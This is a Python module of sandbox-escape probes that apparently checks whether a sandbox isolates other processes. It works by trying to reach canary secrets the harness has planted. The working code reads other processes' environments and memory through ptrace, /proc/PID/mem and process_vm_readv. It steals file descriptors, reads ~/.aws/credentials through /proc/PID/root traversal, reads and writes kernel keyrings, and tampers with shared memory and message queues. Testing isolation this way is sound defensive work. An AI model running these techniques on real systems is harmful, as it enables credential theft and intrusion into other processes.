"""Other processes: their memory, environment, descriptors and command lines."""

from __future__ import annotations

import ctypes
import mmap
import os
import struct
from typing import TYPE_CHECKING

from common import attack, each, libc, read, syscall

if TYPE_CHECKING:
    from common import World

_PTRACE_PEEKDATA = 2
_PTRACE_ATTACH = 16
_PTRACE_SEIZE = 0x4206
_PTRACE_DETACH = 17
_IPC_NOWAIT = 0o4000


def _ancestors(world: World) -> list[int]:
    """Return the processes above the command, up to the one that started it, as far as they can be seen."""
    found, process = [], world.runner
    while process > 0:
        if process != world.runner:
            found.append(process)
        if process == world.starter:
            break
        try:
            process = int(read(f"/proc/{process}/stat").rsplit(")", 1)[1].split()[1])
        except OSError:
            break
    return found


def _others(world: World) -> list[int]:
    return list(dict.fromkeys([world.canary["pid"], world.starter, *_ancestors(world)]))


@attack
def parent_environ(world: World) -> object:
    """Read the environment of the processes that started this one."""
    found = list(dict.fromkeys([world.starter, *_ancestors(world)]))
    return each(*(lambda process=process: read(f"/proc/{process}/environ", 1 << 16) for process in found))


@attack
def pid1_environ_secret(world: World) -> object:
    """Read the environment of process 1, which may be the sandbox's own."""
    said = each(lambda: read("/proc/1/environ", 1 << 16), lambda: read("/proc/1/cmdline", 1 << 16))
    return [word for text in said for word in text.split("\0") if "CANARY" in word]


@attack
def all_environs(world: World) -> object:
    """Read the environment of every process there is, by its number and by its threads; tell what is ours."""
    said = []
    for name in os.listdir("/proc"):
        if name.isdigit():
            for path in (f"/proc/{name}/environ", f"/proc/{name}/task/{name}/environ"):
                try:
                    said += [word for word in read(path, 1 << 16).split("\0") if "CANARY" in word]
                except OSError:
                    continue
    return said


@attack
def other_cmdline(world: World) -> object:
    """Read the command lines of other processes."""
    canary = world.canary["pid"]
    return each(
        lambda: read(f"/proc/{canary}/cmdline"),
        lambda: read(f"/proc/{canary}/task/{canary}/cmdline"),
        lambda: read(f"/proc/self/../{canary}/cmdline"),
    )


@attack
def ptrace_canary(world: World) -> object:
    """Attach to a process outside as a debugger and read its memory."""
    canary, address = world.canary["pid"], world.canary["address"]

    def by(request: int) -> str:
        syscall("ptrace", request, canary, 0, 0)
        try:
            os.waitpid(canary, 0x40000000 | 2)
            words = []
            for offset in range(0, 48, 8):
                held = ctypes.c_ulong()
                syscall("ptrace", _PTRACE_PEEKDATA, canary, address + offset, ctypes.byref(held))
                words.append(struct.pack("=Q", held.value))
            return b"".join(words).decode("latin-1")
        finally:
            each(lambda: syscall("ptrace", _PTRACE_DETACH, canary, 0, 0))

    return each(lambda: by(_PTRACE_ATTACH))


@attack
def ptrace_launcher(world: World) -> object:
    """Attach to the processes above: who controls them is free."""
    said = []
    for process in _ancestors(world):
        for request in (_PTRACE_SEIZE, _PTRACE_ATTACH):
            said += each(lambda process=process, request=request: _attach(request, process, world))
    return said


def _attach(request: int, process: int, world: World) -> str:
    syscall("ptrace", request, process, 0, 0)
    each(lambda: syscall("ptrace", _PTRACE_DETACH, process, 0, 0))
    return f"{world.claim} attached to {process}"


@attack
def proc_mem_canary(world: World) -> object:
    """Read a process's memory as a file."""
    canary = world.canary
    return each(*(lambda path=path: _memory(path, canary["address"]) for path in _memories(canary["pid"])))


def _memories(process: int) -> list[str]:
    return [f"/proc/{process}/mem", f"/proc/{process}/task/{process}/mem", f"/proc/self/../{process}/mem"]


def _memory(path: str, address: int) -> str:
    fd = os.open(path, os.O_RDONLY)
    try:
        return os.pread(fd, 64, address).decode("latin-1")
    finally:
        os.close(fd)


@attack
def proc_mem_of_launcher(world: World) -> object:
    """Write the memory of the processes above: a map of it, and its first page."""
    said = []
    for process in _ancestors(world):
        said += each(lambda process=process: _opened(f"/proc/{process}/mem", os.O_RDWR, world))
        said += each(lambda process=process: f"{world.claim} {read(f'/proc/{process}/maps')[:80]}")
        said += each(lambda process=process: f"{world.claim} {read(f'/proc/{process}/auxv')[:8]!r}")
    return [text for text in said if not text.endswith(" ")]


def _opened(path: str, flags: int, world: World) -> str:
    os.close(os.open(path, flags))
    return f"{world.claim} opened {path}"


@attack
def process_vm(world: World) -> object:
    """Read a process's memory by the call for that (process_vm_readv(2))."""
    held = ctypes.create_string_buffer(64)
    local = struct.pack("=QQ", ctypes.addressof(held), 64)
    remote = struct.pack("=QQ", world.canary["address"], 64)
    syscall("process_vm_readv", world.canary["pid"], local, 1, remote, 1, 0)
    return held.raw.decode("latin-1")


@attack
def steal_descriptor(world: World) -> object:
    """Take a descriptor out of a process outside (pidfd_getfd(2)): it is connected to the attacker."""

    def out(process: int, number: int) -> str:
        pidfd = syscall("pidfd_open", process, 0)
        fd = syscall("pidfd_getfd", pidfd, number, 0)
        return f"wrote {os.write(fd, world.token)}"

    ways = [(world.canary["pid"], world.canary["connection"])]
    ways += [(process, number) for process in _ancestors(world) for number in range(3, 12)]
    return each(*(lambda way=way: out(*way) for way in ways))


@attack
def open_descriptor(world: World) -> object:
    """Open a file that a process outside has open and that has no name any more (/proc/PID/fd)."""
    canary = world.canary
    return each(
        lambda: read(f"/proc/{canary['pid']}/fd/{canary['unlinked']}"),
        lambda: read(f"/proc/self/../{canary['pid']}/task/{canary['pid']}/fd/{canary['unlinked']}"),
    )


@attack
def proc_root_escape(world: World) -> object:
    """See the file system as processes outside see it (/proc/PID/root, /proc/PID/cwd)."""
    secret = f"{world.home}/.aws/credentials"
    up = "/".join([".."] * 20)
    said = []
    for process in _others(world):
        said += each(
            lambda process=process: read(f"/proc/{process}/root{secret}"),
            lambda process=process: read(f"/proc/{process}/cwd/{up}{secret}"),
            lambda process=process: os.listdir(f"/proc/{process}/map_files") and "",
        )
    return said


@attack
def layout_of_process(world: World) -> object:
    """Learn addresses in a process outside (get_robust_list(2)), or its layout by its files in /proc."""
    head, length = ctypes.c_void_p(), ctypes.c_size_t()
    canary = world.canary["pid"]

    def layout(name: str) -> str:
        text = read(f"/proc/{canary}/{name}")
        return f"{world.claim} {text[:60]}" if text else "empty"

    def robust() -> str:
        syscall("get_robust_list", canary, ctypes.byref(head), ctypes.byref(length))
        return f"{world.claim} {head.value}"

    return each(robust, lambda: layout("maps"), lambda: layout("smaps"), lambda: layout("stack"))


@attack
def perf_other(world: World) -> object:
    """Count what a process outside does (perf_event_open(2))."""
    attributes = struct.pack("=IIQQQQQ", 1, 64, 1, 0, 0, 0, 1 << 5) + b"\0" * 24
    fd = syscall("perf_event_open", attributes, world.canary["pid"], -1, -1, 0)
    return f"{world.claim} {fd}"


@attack
def keyring(world: World) -> object:
    """Read a key from the user's keyring, which belongs to no process and no namespace of files."""

    def found(ring: int) -> str:
        key = syscall("keyctl", 10, ring, b"user\0", world.key_name.encode() + b"\0", 0)  # KEYCTL_SEARCH
        return _key(key)

    def requested() -> str:
        return _key(syscall("request_key", b"user\0", world.key_name.encode() + b"\0", 0, 0))

    return each(lambda: found(-4), lambda: found(-5), lambda: found(-3), requested, lambda: _key(world.key))


def _key(key: int) -> str:
    held = ctypes.create_string_buffer(256)
    size = syscall("keyctl", 11, key, held, 256)  # KEYCTL_READ
    return held.raw[:size].decode("latin-1")


@attack
def keyring_write(world: World) -> object:
    """Leave a key in the user's keyring for those outside."""
    name = world.new_name.encode() + b"\0"
    return each(
        lambda: syscall("add_key", b"user\0", name, world.token, len(world.token), -4),
        lambda: syscall("keyctl", 2, world.key, world.token, len(world.token)),  # KEYCTL_UPDATE
    )


@attack
def sysv_shared_memory(world: World) -> object:
    """Read and write the shared memory of a process outside (shmget(2))."""
    libc_shmat = ctypes.CDLL(None, use_errno=True).shmat
    libc_shmat.restype = ctypes.c_void_p

    def attached(identifier: int) -> str:
        address = libc_shmat(identifier, None, 0)
        if address in (None, ctypes.c_void_p(-1).value):
            raise OSError(ctypes.get_errno(), "shmat")
        said = ctypes.string_at(address, 64).decode("latin-1")
        ctypes.memmove(address + 128, world.token, len(world.token))
        return said

    return each(
        lambda: attached(libc("shmget", world.canary["key"], 0, 0)),
        lambda: attached(world.canary["segment"]),
    )


@attack
def sysv_messages(world: World) -> object:
    """Put a message into a queue of a process outside, and take one out (msgop(2))."""

    def put() -> str:
        message = ctypes.create_string_buffer(struct.pack("=q", 7) + world.token)
        return f"put {libc('msgsnd', world.canary['queue'], message, len(world.token), _IPC_NOWAIT)}"

    def take() -> str:
        held = ctypes.create_string_buffer(520)
        libc("msgrcv", world.canary["queue"], held, 512, 1, _IPC_NOWAIT)
        return held.raw.decode("latin-1")

    return each(put, take)


@attack
def posix_queue(world: World) -> object:
    """Put a message into a queue with a name, and take one out (mq_overview(7))."""
    name = world.canary["posix_queue"].encode() + b"\0"

    def put() -> str:
        fd = syscall("mq_open", name, os.O_WRONLY | os.O_NONBLOCK, 0, 0)
        syscall("mq_timedsend", fd, world.token, len(world.token), 1, 0)
        return "put"

    def take() -> str:
        fd = syscall("mq_open", name, os.O_RDONLY | os.O_NONBLOCK, 0, 0)
        held = ctypes.create_string_buffer(512)
        syscall("mq_timedreceive", fd, held, 512, 0, 0)
        return held.raw.decode("latin-1")

    return each(take, put)


@attack
def own_map(world: World) -> object:
    """Map what a shared library of another process has in memory: the descriptor of an anonymous file."""
    said = []
    for process in _others(world):
        path = f"/proc/{process}/fd/{world.canary['memory_file']}"
        said += each(lambda path=path: _mapped(path))
    return said


def _mapped(path: str) -> str:
    with open(path, "rb") as file, mmap.mmap(file.fileno(), 64, prot=mmap.PROT_READ) as held:
        return held[:64].decode("latin-1")
